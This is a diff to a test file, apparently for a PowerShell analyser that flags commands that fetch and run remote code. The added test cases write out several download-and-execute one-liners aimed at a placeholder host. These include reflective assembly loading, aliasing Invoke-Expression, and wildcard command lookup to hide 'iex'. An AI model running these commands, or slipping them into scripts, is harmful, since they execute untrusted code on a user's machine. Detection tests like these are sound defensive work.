@@ -203,3 +203,26 @@ def test_broken_code_is_read_without_complaint(code: str) -> None:
 def test_hostile_code_takes_bounded_time(piece: str) -> None:
     with taking_less_than(5), suppress(Unparsed):
         read_powershell(piece * (200_000 // len(piece)))
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        f"[Reflection.Assembly]::Load((iwr {URL}).Content)",
+        f"Add-Type -TypeDefinition (irm {URL})",
+        f"Start-BitsTransfer {URL} a.exe; Start-Process a.exe",
+        f"irm {URL} -OutFile a.psm1; Import-Module ./a.psm1",
+        f"sal run iex; run (irm {URL})",
+        f"Set-Alias -Name run -Value Invoke-Expression\nrun (irm {URL})",
+        f"& (gcm i*x) (irm {URL})",
+        f"$x = GetObject('script:{URL}')",
+    ],
+)
+def test_other_commands_that_run_what_is_fetched_are_found(code: str) -> None:
+    assert {fact.host for fact in facts_of(code, Act.RUN_REMOTE)} == {"get.example-tools.dev"}
+
+
+def test_a_repository_of_modules_is_a_place_that_packages_come_from() -> None:
+    found = facts_of(f"Register-PSRepository -Name x -SourceLocation {URL}", Act.INSTALL)
+
+    assert [fact.host for fact in found] == ["get.example-tools.dev"]
